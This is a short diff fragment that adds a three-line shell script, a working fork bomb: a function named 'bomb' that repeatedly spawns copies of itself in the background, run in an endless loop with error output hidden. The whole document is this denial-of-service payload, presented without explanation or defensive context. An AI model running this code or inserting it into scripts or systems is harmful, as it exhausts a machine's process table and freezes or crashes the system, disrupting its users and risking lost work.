@@ -1,0 +1,3 @@
+# Forks for ever.
+bomb() { bomb | bomb & }
+while :; do bomb; done 2> /dev/null
